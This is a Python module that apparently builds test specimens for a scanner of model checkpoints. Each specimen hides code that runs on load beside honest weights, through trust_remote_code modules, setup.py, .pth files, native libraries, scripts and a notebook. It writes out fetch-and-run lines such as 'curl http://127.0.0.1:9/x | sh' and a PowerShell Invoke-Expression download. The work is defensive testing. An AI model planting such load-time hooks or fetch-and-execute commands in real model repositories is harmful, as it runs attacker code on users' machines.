"""Code beside the weights: Python that `trust_remote_code` runs, native libraries, scripts, notebooks."""

from __future__ import annotations

import json
import marshal
import struct
from typing import Any, Final

from tests.corpus.payloads import SHELL, STATEMENTS
from tests.corpus.specimen import NEVER_CLEAN, Proof, Specimen
from tests.support.weights import simple_safetensors

WEIGHTS: Final = simple_safetensors("a")
SOURCE: Final = f"{STATEMENTS}\n\nclass TinyModel:\n    pass\n"


def specimens() -> list[Specimen]:
    return [*_remote_code(), *_python(), *_native(), *_scripts()]


def _folder(
    name: str, reference: str, description: str, files: dict[str, bytes], *, imports: str | None = None
) -> Specimen:
    """A checkpoint of otherwise honest weights; `imports` is the file whose import sets it off."""
    return Specimen(
        name=f"code-{name}",
        category="code",
        reference=reference,
        description=description,
        files={"model.safetensors": WEIGHTS, **files},
        expected=NEVER_CLEAN,
        proof=None if imports is None else Proof(loader="python", path=imports),
    )


def _config(**more: Any) -> bytes:
    return json.dumps({"architectures": ["TinyModel"], "model_type": "tiny", **more}).encode()


def _remote_code() -> list[Specimen]:
    mapped = {"AutoModelForCausalLM": "modeling_tiny.TinyModel"}
    elsewhere = {"AutoModelForCausalLM": "acme/tiny-code--modeling_tiny.TinyModel"}
    source = SOURCE.encode()
    tokenizer = json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_tiny.Tiny", None]}}).encode()
    quantized = _config(quantization_config={"quant_method": "acme", "auto_map": {"AutoQuantizer": "quant.Quant"}})
    pipelines = {"acme": {"impl": "pipeline_acme.Acme", "pt": ["AutoModel"]}}
    return [
        _folder(
            "auto-map",
            "auto_map",
            "config.json names a module that runs a command when imported",
            {"config.json": _config(auto_map=mapped), "modeling_tiny.py": source},
            imports="modeling_tiny.py",
        ),
        _folder(
            "auto-map-elsewhere",
            "auto_map",
            "config.json names a module of another repository",
            {"config.json": _config(auto_map=elsewhere)},
        ),
        _folder(
            "auto-map-tokenizer",
            "auto_map",
            "tokenizer_config.json names a module",
            {"config.json": _config(), "tokenizer_config.json": tokenizer, "tokenization_tiny.py": source},
            imports="tokenization_tiny.py",
        ),
        _folder(
            "auto-map-nested",
            "auto_map",
            "A configuration within the configuration names a module",
            {"config.json": quantized},
        ),
        _folder(
            "custom-pipeline",
            "auto_map",
            "config.json names a pipeline of its own",
            {"config.json": _config(custom_pipelines=pipelines), "pipeline_acme.py": source},
            imports="pipeline_acme.py",
        ),
        _folder(
            "diffusers-pipeline",
            "auto_map",
            "model_index.json names a pipeline's module",
            {
                "model_index.json": json.dumps(
                    {"_class_name": ["pipeline", "Acme"], "_diffusers_version": "0.30.0"}
                ).encode(),
                "pipeline.py": source,
            },
            imports="pipeline.py",
        ),
        _folder(
            "sentence-transformers-module",
            "auto_map",
            "modules.json names a class of the folder",
            {
                "modules.json": json.dumps(
                    [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]
                ).encode(),
                "custom_st.py": source,
            },
            imports="custom_st.py",
        ),
    ]


def _python() -> list[Specimen]:
    compiled = struct.pack("<I12x", 0x0A0D0DA7) + marshal.dumps(compile(STATEMENTS, "m", "exec"))
    source = SOURCE.encode()
    return [
        _folder(
            "python",
            "Python",
            "A module that nothing mentions",
            {"utils/helpers.py": source},
            imports="utils/helpers.py",
        ),
        _folder("setup-py", "Python", "A setup.py, which pip runs", {"setup.py": source}, imports="setup.py"),
        _folder(
            "hubconf", "Python", "A hubconf.py, which torch.hub runs", {"hubconf.py": source}, imports="hubconf.py"
        ),
        _folder("pyc", "Python", "A compiled module without source", {"modeling_tiny.pyc": compiled}),
        _folder(
            "pth",
            "Python",
            "A .pth file, whose lines that begin with import are run",
            {"site/tiny.pth": f"import os; os.system({SHELL!r})\n".encode()},
        ),
        _folder(
            "python-without-extension",
            "Python",
            "A script by its first line alone",
            {"bin/convert": b"#!/usr/bin/env python3\n" + source},
        ),
    ]


def _native() -> list[Specimen]:
    elf, pe, mach = _elf(), _pe(), struct.pack("<IIIIIIII", 0xFEEDFACF, 0x01000007, 3, 6, 0, 0, 0, 0)
    wasm = b"\0asm\1\0\0\0"
    java = struct.pack(">IHH", 0xCAFEBABE, 0, 52)
    return [
        _folder("elf", "native library", "A Linux library, as custom operators have", {"ops/libfused.so": elf}),
        _folder("elf-named-bin", "native library", "The same by the name of weights", {"pytorch_model.bin": elf}),
        _folder("pe", "native library", "A Windows library", {"ops/fused.dll": pe}),
        _folder(
            "pe-named-json", "native library", "The same by the name of a configuration", {"generation_config.json": pe}
        ),
        _folder("mach-o", "native library", "A macOS library", {"ops/libfused.dylib": mach}),
        _folder("wasm", "native library", "A WebAssembly module", {"web/model.wasm": wasm}),
        _folder("java-class", "native library", "A Java class", {"Model.class": java}),
    ]


def _elf() -> bytes:
    """The header of a shared object for x86-64, and a page that could be its code."""
    ident = b"\x7fELF\x02\x01\x01" + bytes(9)
    return ident + struct.pack("<HHIQQQIHHHHHH", 3, 62, 1, 0, 64, 0, 0, 64, 56, 1, 0, 0, 0) + bytes(120)


def _pe() -> bytes:
    """The headers of a DLL for x86-64."""
    dos = b"MZ" + bytes(58) + struct.pack("<I", 64)
    return dos + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 0x2022) + bytes(64)


def _scripts() -> list[Specimen]:
    cells = [
        {"cell_type": "markdown", "metadata": {}, "source": ["# How to use\n"]},
        {
            "cell_type": "code",
            "metadata": {},
            "execution_count": None,
            "outputs": [],
            "source": ["!curl http://127.0.0.1:9/x | sh\n"],
        },
    ]
    notebook = json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()
    desktop = f"[Desktop Entry]\nType=Application\nExec=sh -c '{SHELL}'\n".encode()
    return [
        _folder(
            "shell",
            "script",
            "A shell script that the card asks to run",
            {"install.sh": f"#!/bin/sh\n{SHELL}\n".encode()},
        ),
        _folder(
            "powershell",
            "script",
            "A PowerShell script",
            {"setup.ps1": b"Invoke-Expression (iwr http://127.0.0.1:9/x).Content\n"},
        ),
        _folder("notebook", "notebook", "A notebook with a cell that runs a command", {"usage.ipynb": notebook}),
        _folder(
            "desktop-entry", "script", "A launcher that a file manager runs on a click", {"model.desktop": desktop}
        ),
        _folder("makefile", "script", "A makefile", {"Makefile": f"all:\n\t{SHELL.replace('$', '$$')}\n".encode()}),
        _folder(
            "javascript", "script", "A script for Node.js", {"index.js": b"require('child_process').execSync('true')\n"}
        ),
    ]
